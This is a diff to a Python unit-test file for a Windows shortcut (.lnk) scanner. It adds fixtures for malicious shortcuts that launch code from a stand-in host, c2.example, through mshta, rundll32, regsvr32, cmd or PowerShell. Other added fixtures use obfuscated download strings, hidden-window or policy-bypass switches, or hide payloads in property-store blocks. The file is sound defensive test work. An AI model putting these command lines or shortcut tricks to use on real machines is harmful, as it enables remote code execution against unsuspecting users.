@@ -1,6 +1,7 @@
 # SPDX-License-Identifier: GPL-2.0-or-later
 """What genkan-scan says of hostile shortcuts, of harmless ones, and of files that are none."""
 import base64
+import json
 import os
 import struct
 import unittest
@@ -25,6 +26,19 @@ def two_ways():
 
 def control_panel():
     return m.link(m.items(m.root(), m.root(m.CONTROL_PANEL), m.applet(r"\\10.0.0.9\share\payload.dll")))
+
+
+def system(program, arguments="", **others):
+    return ("a.lnk", m.windows_like("C:\\Windows\\System32\\" + program, arguments=arguments, **others))
+
+
+VISTA_EDITOR = m.vista_items(m.root(), m.volume(), m.entry("Program Files", folder=True), m.entry("Editor", folder=True), m.entry("editor.exe"))
+VISTA_CMD = m.vista_items(m.root(), m.volume(), m.entry("Windows", folder=True), m.entry("System32", folder=True), m.entry("cmd.exe"))
+SHARE = r"\\c2.example\s"
+
+
+def program_in_store(program):
+    return m.windows_like(blocks=[m.block(0xA0000009, struct.pack("<I", 8 + 24 + len(program)) + b"1SPS" + b"\0" * 24 + program + m.TERMINAL)])
 
 
 # What it is called here: its name, its bytes, the indicators that it must show.
@@ -52,7 +66,7 @@ HOSTILE = {
     "command behind a PDF icon": ("a.lnk", m.windows_like(CMD, arguments="/c calc", icon=READER), ["program-behind-document-icon"]),
     "command behind a browser icon": ("a.lnk", m.windows_like(POWERSHELL, arguments="-c calc", icon=r"C:\Program Files\Google\Chrome\Application\chrome.exe"), ["program-behind-document-icon"]),
     "command behind a folder icon": ("a.lnk", m.windows_like(CMD, arguments="/c calc", icon=r"%SystemRoot%\System32\shell32.dll", icon_index=3), ["program-behind-document-icon"]),
-    "command by a variable": ("a.lnk", m.link(blocks=[m.environment("%COMSPEC%")], flags=m.EXP_STRING, arguments="/c x", show=7), ["builtin-with-arguments", "show-minimised"]),
+    "command by a variable": ("a.lnk", m.link(blocks=[m.environment("%COMSPEC%")], flags=m.EXP_STRING, arguments="/c x", show=7), ["builtin-with-arguments", "builtin-out-of-sight"]),
     "endless path": ("a.lnk", m.link(link_info=m.info("C:\\" + "a" * 40000)), ["damaged"]),
     "icon by environment block": ("a.lnk", m.windows_like(CMD, [m.icon_environment(READER)], flags=m.EXP_ICON, arguments="/c calc"), ["program-behind-document-icon"]),
     "script behind a document's icon": ("a.lnk", m.windows_like(r"C:\Users\a\b.vbs", icon=r".\report.docx"), ["program-behind-document-icon"]),
@@ -72,7 +86,7 @@ HOSTILE = {
     "relative path disagrees": ("a.lnk", m.windows_like(relative="..\\evil.exe"), ["targets-disagree"]),
     "only ANSI environment target": ("a.lnk", m.link(blocks=[m.environment(CMD, "")], flags=m.EXP_STRING), ["environment-half-empty"]),
     "only Unicode environment target": ("a.lnk", m.link(blocks=[m.environment("", CMD)], flags=m.EXP_STRING), ["environment-half-empty"]),
-    "environment halves differ": ("a.lnk", m.link(blocks=[m.environment(r"C:\a.exe", CMD)], flags=m.EXP_STRING, show=7), ["environment-halves-differ", "show-minimised"]),
+    "environment halves differ": ("a.lnk", m.link(blocks=[m.environment(r"C:\a\cmd.exe", CMD)], flags=m.EXP_STRING, arguments="/c x", show=7), ["environment-halves-differ", "builtin-out-of-sight"]),
     "environment promised, not there": ("a.lnk", m.windows_like(flags=m.EXP_STRING, show=7), ["environment-missing", "show-minimised"]),
     "trailing dot": ("a.lnk", m.link(m.items(m.root(), m.volume(), m.entry("cmd.exe."))), ["target-trailing-dot-or-space"]),
     "trailing space": ("a.lnk", m.link(link_info=m.info("C:\\a\\cmd.exe ")), ["target-trailing-dot-or-space"]),
@@ -89,15 +103,55 @@ HOSTILE = {
     "NUL in the arguments": ("a.lnk", m.windows_like(CMD, arguments="/c dir\0/c calc"), ["text-with-nul"]),
     "half characters": ("a.lnk", m.windows_like(CMD, arguments="/c \ud800"), ["text-not-unicode", "builtin-with-arguments"]),
     "console out of sight": ("a.lnk", m.windows_like(CMD, [m.console(1, 1, -3000, -3000, 0)], arguments="/c calc"), ["console-out-of-sight", "builtin-with-arguments"]),
-    "minimised command": ("a.lnk", m.windows_like(CMD, arguments="/c calc", show=7), ["show-minimised"]),
+    "minimised command": ("a.lnk", m.windows_like(CMD, arguments="/c calc", show=7), ["show-minimised", "builtin-out-of-sight"]),
     "odd block size": ("a.lnk", m.link(link_info=m.info(CMD), blocks=[m.block(0xA0000003, b"x" * 40)], arguments="/c x"), ["block-odd-size"]),
     "in a temporary folder, by relative path alone": ("a.lnk", m.link(relative=r".\Temp\x\a.exe"), ["target-relative-only", "target-in-temporary-folder"]),
+    "program on a share": ("a.lnk", m.link(m.items(m.root(), m.network(SHARE), m.entry("setup.exe"))), ["target-remote-program", "target-unc"]),
+    "program on a share, by link information": ("a.lnk", m.link(link_info=m.info_share(SHARE, "setup.exe")), ["target-remote-program"]),
+    "program on a share, by address": ("a.lnk", m.link(m.items(m.uri("file://c2.example/s/setup.exe"))), ["target-remote-program"]),
+    "script on a share": ("a.lnk", m.link(m.items(m.network(SHARE), m.entry("a.vbs"))), ["target-remote-program"]),
+    "mshta and a share": (*system("mshta.exe", SHARE + r"\a.hta"), ["arguments-remote"]),
+    "cmd and a share": (*system("cmd.exe", "/c " + SHARE + r"\a.exe"), ["arguments-remote"]),
+    "cmd and a share, ANSI": (*system("cmd.exe", "/c " + SHARE + r"\a.exe", unicode=False), ["arguments-remote"]),
+    "rundll32 and a share": (*system("rundll32.exe", SHARE + r"\a.dll,Go"), ["arguments-remote"]),
+    "powershell and a share": (*system("powershell.exe", '-c "gc ' + SHARE + r'\a.txt|%{&$_}"'), ["arguments-remote"]),
+    "explorer and a share": (*system("explorer.exe", SHARE + r"\a.exe"), ["arguments-remote"]),
+    "conhost and a share": (*system("conhost.exe", "--headless " + SHARE + r"\a.exe"), ["arguments-remote"]),
+    "InfDefaultInstall and a share": (*system("InfDefaultInstall.exe", SHARE + r"\a.inf"), ["arguments-remote"]),
+    "a share, quoted": (*system("explorer.exe", '"' + SHARE + r'\a.exe"'), ["arguments-remote"]),
+    "a share, other slashes": (*system("explorer.exe", "//c2.example/s/a.exe"), ["arguments-remote"]),
+    "a share, by its long form": (*system("explorer.exe", r"\\?\UNC\c2.example\s\a.exe"), ["arguments-remote"]),
+    "a share, behind an option": (*system("regsvr32.exe", r"/s /i:\\c2.example\s\a.sct x.dll"), ["arguments-remote"]),
+    "a share, by address": (*system("explorer.exe", "file://c2.example/s/a.exe"), ["arguments-remote"]),
+    "a share, carets inside": (*system("cmd.exe", r"/c ^\^\c2.example\s\a.exe"), ["arguments-remote"]),
+    "explorer and WebDAV": (*system("explorer.exe", r"\\c2.example@SSL\s\a.exe"), ["arguments-remote"]),
+    "explorer and an address": (*system("explorer.exe", "https://c2.example/a.exe"), ["arguments-remote"]),
+    "program by the newer item list": ("a.lnk", m.windows_like(r"C:\Windows\explorer.exe", [VISTA_CMD], arguments="/c calc"), ["targets-disagree", "builtin-with-arguments"]),
+    "Control Panel path in the newer item list": ("a.lnk", m.link(blocks=[m.vista_items(m.root(), m.root(m.CONTROL_PANEL), m.applet(SHARE + r"\a.dll"))]), ["control-panel-path"]),
+    "powershell by its short name": (*system("POWERS~1.EXE", "-c calc"), ["builtin-by-short-name", "builtin-with-arguments"]),
+    "mshta by a short name": (*system("MSHTA~1.EXE", "a.hta"), ["builtin-by-short-name"]),
+    "powershell by its short name, through cmd": (*system("cmd.exe", "/c POWERS~1 -c calc"), ["arguments-run-builtin"]),
+    "words put together": (*system("powershell.exe", "-c \"$h='ht'+'tp:';&(gcm i*x)\""), ["arguments-obfuscated"]),
+    "words put together, with blanks": (*system("powershell.exe", '-c ("Downl" + "oadStr" + "ing")'), ["arguments-fetch"]),
+    "an address put together": (*system("powershell.exe", "-c ('ht'+'tp'+'://c2.example/a')"), ["builtin-with-url", "arguments-obfuscated"]),
+    "program in a property store": ("a.lnk", program_in_store(b"MZ\x90\0" + b"\0" * 60), ["block-payload"]),
+    "script in a property store": ("a.lnk", program_in_store("x = CreateObject(1)".encode("utf-16-le")), ["block-payload"]),
+    "no properties in a property store": ("a.lnk", m.windows_like(blocks=[m.block(0xA0000009, b"\x04\x2e\0\0MZ" + b"A" * 0x2dfe + m.TERMINAL)]), ["block-payload"]),
+    "program in an unknown block": ("a.lnk", m.windows_like(blocks=[m.block(0xA00000FF, b"MZ" + b"\0" * 200)]), ["unknown-block", "block-payload"]),
+    "environment halves name two programs": ("a.lnk", m.link(blocks=[m.environment(r"C:\a.exe", CMD)], flags=m.EXP_STRING), ["targets-disagree"]),
+    "long arguments alone": ("a.lnk", m.windows_like(arguments="x" * 251), ["arguments-long"]),
+    "only a relative path": ("a.lnk", m.link(relative=r".\a.exe"), ["target-relative-only"]),
     "double extension": ("invoice.pdf.lnk", m.windows_like(), ["name-double-extension"]),
     "document's name, shortcut's content": ("invoice.pdf", m.windows_like(), ["name-not-the-content"]),
     "right-to-left override in the name": ("a\u202efdp.lnk", m.windows_like(), ["name-bidi-control"]),
     "zero-width in the name": ("inv\u200boice.lnk", m.windows_like(), ["name-zero-width"]),
     "blanks in the name": ("invoice.pdf" + " " * 60 + ".lnk", m.windows_like(), ["name-padded", "name-double-extension"]),
 }
+
+# PowerShell takes the beginning of a switch for the whole of it.
+HOSTILE.update({f"hidden by {how}": (*system("powershell.exe", how + " -c calc"), ["arguments-hide-window"]) for how in
+                ("-w h", "-wi hid", "-W HIDDEN", "-w 1", "/w hidden", "-WindowStyle:h", "\u2013win hidd", "-w 'h'+'id'",
+                 "-ex byp", "-ep bypass", "-ExecutionPolicy b", "-exec unr", "-noni", "start /min")})
 
 # Every kind of blank hides as well as the others.
 HOSTILE.update({f"blank U+{ord(c):04X}": ("a.lnk", m.windows_like(arguments=c * 9 + "x"), ["arguments-padded"]) for c in BLANKS})
@@ -125,12 +179,16 @@ HARMLESS = {
     "made on a Korean Windows": ("보고서.lnk", m.link(m.items(m.root(), m.volume(), m.entry("보고서.exe")), m.info("C:\\보고서.exe", page="cp949"), name="보고서")),
     "a variable for the command prompt": ("Prompt.lnk", m.windows_like(CMD, [m.environment("%ComSpec%")], flags=m.EXP_STRING)),
     "ANSI strings": ("a.lnk", m.windows_like(unicode=False, name="Éditeur", arguments="-x")),
-    "on a share": ("a.lnk", m.link(m.items(m.network(r"\\fs\tools"), m.entry("a.exe")), m.info_share(r"\\fs\tools", "a.exe"))),
-    "on a share, Unicode": ("a.lnk", m.link(m.items(m.network(r"\\fs\tools"), m.entry("a.exe")), m.info_share(r"\\fs\tools", "a.exe", unicode=True), icon=r"\\FS\tools\a.exe")),
+    "on a share": ("a.lnk", m.link(m.items(m.network(r"\\fs\texts"), m.entry("a.docx")), m.info_share(r"\\fs\texts", "a.docx"))),
+    "on a share, Unicode": ("a.lnk", m.link(m.items(m.network(r"\\fs\texts"), m.entry("a.docx")), m.info_share(r"\\fs\texts", "a.docx", unicode=True), icon=r"\\FS\texts\a.ico")),
+    "arguments with doubled slashes": ("a.lnk", m.windows_like(arguments=r'-f "C:\\Tools\\x y" //nologo "C:\Program Files (x86)\\a" file:///C:/a/b.txt -w h')),
+    "an address of another scheme": ("a.lnk", m.windows_like(arguments="steam://rungameid/440 mailto:a@b.example")),
+    "a document for everybody": ("a.lnk", m.windows_like(r"C:\Users\Public\Documents\a.docx")),
+    "minimised": ("a.lnk", m.windows_like(show=7)),
     "a web app": ("App.lnk", m.windows_like(r"C:\Program Files\Google\Chrome\Application\chrome_proxy.exe", arguments="--profile-directory=Default --app-id=abcdefghijklmnop", icon=r"C:\Users\a\AppData\Local\App\app.ico")),
     "a page in the browser": ("News.lnk", m.windows_like(r"C:\Program Files\Mozilla Firefox\firefox.exe", arguments="https://news.example/", icon=r"C:\Program Files\Mozilla Firefox\firefox.exe")),
     "an installed product": ("Product.lnk", m.link(m.items_of(r"C:\Windows\Installer\icon.exe"), blocks=[m.darwin("abc>def")], flags=1 << 12)),
-    "every extra block": ("a.lnk", m.windows_like(blocks=[m.console(), m.code_page(), m.shim(), m.vista_items(m.root(), m.volume())])),
+    "every extra block": ("a.lnk", m.windows_like(blocks=[m.console(), m.code_page(), m.shim(), VISTA_EDITOR])),
     "made on a virtual machine": ("a.lnk", m.link(m.items_of(CMD), m.info(CMD), [m.tracker(mac="080027112233")])),
     "ForceNoLinkInfo": ("a.lnk", m.link(m.items_of(CMD), flags=m.NO_INFO)),
     "a Windows applet": ("Mouse.lnk", m.link(m.items(m.root(), m.root(m.CONTROL_PANEL), m.applet(r"C:\Windows\System32\main.cpl")))),
@@ -174,6 +232,7 @@ class Triage(unittest.TestCase):
             with self.subTest(what):
                 triage = run_scan(data, "--name", name)
                 self.assertEqual(triage["verdict"], "clean", ids(triage))
+                self.assertEqual([i["id"] for i in triage["indicators"] if i["severity"] != "low"], [])
                 self.assertEqual(triage["lnk"]["damage"], [])
 
     def test_other_kinds_are_unscannable(self):
@@ -217,7 +276,7 @@ class Shape(unittest.TestCase):
                               name="about", arguments="-a", icon="i.ico", hotkey=0x0370, show=3, icon_index=-7)
         lnk = run_scan(data)["lnk"]
         self.assertEqual((lnk["target"], lnk["description"], lnk["arguments"], lnk["icon"], lnk["show"]),
-                         (r"C:\Program Files\Editor\editor.exe", "about", "-a", "i.ico", "maximised"))
+                         ("C:\\v.exe", "about", "-a", "i.ico", "maximised"))
         self.assertEqual((lnk["header"]["hotkey"], lnk["header"]["icon_index"], lnk["header"]["created"]),
                          ("CTRL+SHIFT+F1", -7, "2022-06-18T04:26:40Z"))
         self.assertEqual([i["name"] for i in lnk["items"]], [None, "C:\\", "Program Files", "Editor", "editor.exe"])
@@ -244,6 +303,36 @@ class Shape(unittest.TestCase):
         arguments = "a\0b\ud800c\t\u202e" + "z" * 60000
         lnk = run_scan(m.windows_like(arguments=arguments))["lnk"]
         self.assertEqual(lnk["arguments"], "a\\x00b\\u{d800}c\t\u202e" + "z" * 60000)
+
+    def test_an_installed_product_is_told(self):
+        self.assertIn("target-by-installer", ids(run_scan(HARMLESS["an installed product"][1])))
+
+    def test_no_shortcut_makes_the_answer_too_long(self):
+        one, long = "\x01" * 32766, "\x01" * 4096
+        shims = [m.block(0xA0000008, m.u16(one) + b"\0\0")]
+        entries = [m.item(b"\x32\0" + b"\0" * 10 + b"\x01" * 3000 + b"\0") for _ in range(250)]
+        texts = {"name": one, "relative": one, "directory": one, "arguments": one * 2, "icon": one}
+        for what, data in (("shims", m.windows_like(CMD, shims * 90, arguments=" " * 50 + "/c calc")),
+                           ("shims and all else", m.link(m.items(*entries[:20]), m.info(long), [m.environment("\x01" * 259)] + shims * 120, flags=m.EXP_STRING,
+                                                         overlay=b"\0" * (4 << 20), **texts)),
+                           ("items", m.windows_like(CMD, [m.vista_items(*entries)] * 12, arguments=" " * 50)),
+                           ("stores", m.windows_like(CMD, [m.block(0xA0000009, b"\4\0\0\0" * (3 << 20) + m.TERMINAL)], arguments=" " * 50)),
+                           ("12 MB", m.windows_like(CMD, shims * 90, arguments=" " * 50 + "/c calc", overlay=b"\1" * (12 << 20)))):
+            with self.subTest(what):
+                triage = run_scan(data, "--name", "a.lnk")
+                self.assertLess(len(json.dumps(triage, ensure_ascii=True)), 2 << 20)
+                self.assertIn(triage["verdict"], ("suspicious", "malicious"))
+                self.assertEqual(triage["lnk"]["windows_view"]["blocks"], len(triage["lnk"]["blocks"]))
+
+    def test_what_is_cut_says_so(self):
+        entries = [m.entry(f"{i}") for i in range(200)]
+        lnk = run_scan(m.windows_like(name="n" * 259, icon="i" * 5000, blocks=[m.shim("l" * 4097), m.vista_items(*entries)],
+                                      arguments="\0" * 65535))["lnk"]
+        self.assertEqual((len(lnk["icon"]), lnk["icon_cut"], "description_cut" in lnk), (4096, True, False))
+        self.assertEqual((len(lnk["arguments"]), lnk["arguments_cut"]), (65536, True))
+        self.assertEqual((len(lnk["blocks"][-2]["layer"]), lnk["blocks"][-2]["layer_cut"]), (4096, True))
+        self.assertEqual(lnk["blocks"][-1]["items_count"], 200)
+        self.assertEqual(len(lnk["items"]) + len(lnk["blocks"][-1]["items"]), 128)
 
     def test_encoded_command_is_decoded(self):
         triage = run_scan(m.windows_like(POWERSHELL, arguments="-enc " + COMMAND))
